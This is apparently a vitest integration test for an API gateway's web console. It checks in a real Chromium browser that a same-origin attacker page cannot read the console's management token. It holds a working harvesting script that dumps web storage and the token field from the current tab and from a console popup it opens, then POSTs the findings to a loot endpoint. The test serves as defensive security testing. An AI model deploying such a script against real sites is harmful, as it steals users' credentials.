import { randomBytes } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createSasToken } from '../../src/management';
import { findChromium, launchChromium, type LaunchedBrowser } from '../helpers/browser';
import { uniqueTableName } from '../helpers/catalog';
import { labHostEnv, startHostProcess, type HostProcess } from '../helpers/localHost';

/**
 * The console shares its origin with the gateway, and the gateway serves whatever
 * its backends answer. An API whose backend answers an HTML page with a script
 * (the attacker's) is reachable on that origin: these tests run that page in a
 * real Chromium, in the console's own tab and as the opener of a console popup,
 * and check that it never gets the management token.
 */

const PRIMARY = randomBytes(64).toString('base64');
const SERVICE = '/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/apim-lab/providers/Microsoft.ApiManagement/service/apim-lab';

/** What the attacker's page collects from a window of the origin: its web storage and the token field. */
const TRAP_SCRIPT = `
const report = (what) => fetch(LOOT, { method: 'POST', mode: 'no-cors', body: JSON.stringify(what) });
function dump(w) {
  const found = {};
  for (const kind of ['sessionStorage', 'localStorage']) {
    try {
      const store = w[kind];
      for (let i = 0; i < store.length; i++) found[kind + ':' + store.key(i)] = store.getItem(store.key(i));
    } catch (error) { found[kind + 'Error'] = String(error); }
  }
  try { const input = w.document.getElementById('token'); if (input) found.input = input.value; } catch (error) { found.domError = String(error); }
  return found;
}
report({ scenario: 'same-tab', found: dump(window) });
document.getElementById('go').addEventListener('click', () => {
  const popup = window.open('/lab');
  let n = 0;
  const timer = setInterval(() => {
    report({ scenario: 'popup', n: n++, found: dump(popup) });
    if (n > 150) clearInterval(timer);
  }, 100);
});
`;

const chromium = findChromium();

if (!chromium.available && !chromium.required) {
  console.warn(`console token browser tests skipped: ${chromium.reason}`);
  describe('the console token against a page of the same origin', () => {
    it.skip(`skipped: ${chromium.reason}`, () => {});
  });
} else {
  describe('the console token against a page of the same origin', () => {
    let host: HostProcess;
    let browser: LaunchedBrowser;
    let backend: Server;
    const loot: { scenario: string; n?: number; found: Record<string, string> }[] = [];
    const token = () => createSasToken({ identifier: 'integration', key: PRIMARY, expiry: new Date(Date.now() + 3_600_000) });
    const signatureOf = (value: string) => value.slice(value.indexOf('sn=') + 3);

    async function manage(method: string, path: string, body: unknown) {
      const response = await fetch(`${host.baseUrl}/management${SERVICE}${path}?api-version=2024-05-01`, {
        method,
        headers: { Authorization: `SharedAccessSignature ${token()}`, 'Content-Type': 'application/json' },
        body: JSON.stringify(body),
      });
      if (response.status >= 300) throw new Error(`${method} ${path}: ${response.status} ${await response.text()}`);
    }

    beforeAll(async () => {
      if (!chromium.available) throw new Error(`CI must run the browser tests: ${chromium.reason}`);
      backend = createServer((req, res) => {
        if (req.url === '/loot') {
          let text = '';
          req.on('data', (chunk: Buffer) => (text += chunk.toString()));
          req.on('end', () => {
            loot.push(JSON.parse(text));
            res.end();
          });
          return;
        }
        const port = (backend.address() as { port: number }).port;
        const script = `const LOOT = 'http://127.0.0.1:${port}/loot';${TRAP_SCRIPT}`;
        res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
        res.end(`<!doctype html><title>A page of some API</title><button id="go">Open the console</button><script>${script}</script>`);
      });
      await new Promise<void>((r) => backend.listen(0, '127.0.0.1', r));
      const backendPort = (backend.address() as { port: number }).port;
      [host, browser] = await Promise.all([
        startHostProcess({ env: labHostEnv(uniqueTableName('consoletoken'), { primary: PRIMARY, secondary: randomBytes(64).toString('base64') }) }),
        launchChromium(chromium.executablePath),
      ]);
      await manage('PUT', '/apis/trap', {
        properties: { displayName: 'Trap', path: 'trap', serviceUrl: `http://127.0.0.1:${backendPort}`, protocols: ['http', 'https'], subscriptionRequired: false },
      });
      await manage('PUT', '/apis/trap/operations/page', { properties: { displayName: 'Page', method: 'GET', urlTemplate: '/page' } });
    });

    afterAll(async () => {
      await browser?.close();
      await host?.stop();
      await new Promise((r) => backend?.close(r));
    });

    async function connectConsole(page: Page, value: string) {
      await page.getByLabel('Management token').fill(value);
      await page.getByRole('button', { name: 'Connect' }).click();
      await page.locator('#token-status', { hasText: 'Connected' }).waitFor();
    }

    const waitFor = async (check: () => boolean, what: string) => {
      const until = Date.now() + 10_000;
      while (!check()) {
        if (Date.now() > until) throw new Error(`timed out waiting for ${what}`);
        await new Promise((r) => setTimeout(r, 50));
      }
    };

    it('the page served through the gateway runs on the console origin (the attack is real)', async () => {
      const page = await browser.context.newPage();
      const before = loot.length;
      await page.goto(`${host.baseUrl}/trap/page`);
      await waitFor(() => loot.length > before, 'the trap page to report');
      expect(loot.at(-1)!.scenario).toBe('same-tab');
      await page.close();
    });

    it('a page loaded into the console tab after connecting finds no token', async () => {
      const page = await browser.context.newPage();
      page.setDefaultTimeout(8000);
      await page.goto(`${host.baseUrl}/lab`);
      const value = token();
      await connectConsole(page, value);
      const before = loot.length;
      await page.goto(`${host.baseUrl}/trap/page`);
      await waitFor(() => loot.length > before, 'the trap page to report');
      const report = loot.at(-1)!;
      expect(report.scenario).toBe('same-tab');
      expect(JSON.stringify(report.found)).not.toContain(signatureOf(value));
      expect(report.found).toEqual({});
      await page.close();
    });

    it('a page that opens the console as a popup cannot read it once the token is pasted', async () => {
      const opener = await browser.context.newPage();
      opener.setDefaultTimeout(8000);
      await opener.goto(`${host.baseUrl}/trap/page`);
      const popupOpened = browser.context.waitForEvent('page');
      await opener.locator('#go').click();
      const popup = await popupOpened;
      popup.setDefaultTimeout(8000);
      await popup.waitForLoadState();
      expect(new URL(popup.url()).pathname).toBe('/lab');
      const value = token();
      await connectConsole(popup, value);
      const connectedAt = loot.filter((r) => r.scenario === 'popup').length;
      // Several reports made after the token was pasted and used.
      await waitFor(() => loot.filter((r) => r.scenario === 'popup').length >= connectedAt + 5, 'reports after connecting');
      const reports = loot.filter((r) => r.scenario === 'popup');
      for (const report of reports) {
        expect(JSON.stringify(report.found)).not.toContain(signatureOf(value));
        expect(report.found.input).toBeUndefined();
      }
      await popup.close();
      await opener.close();
    });
  });
}
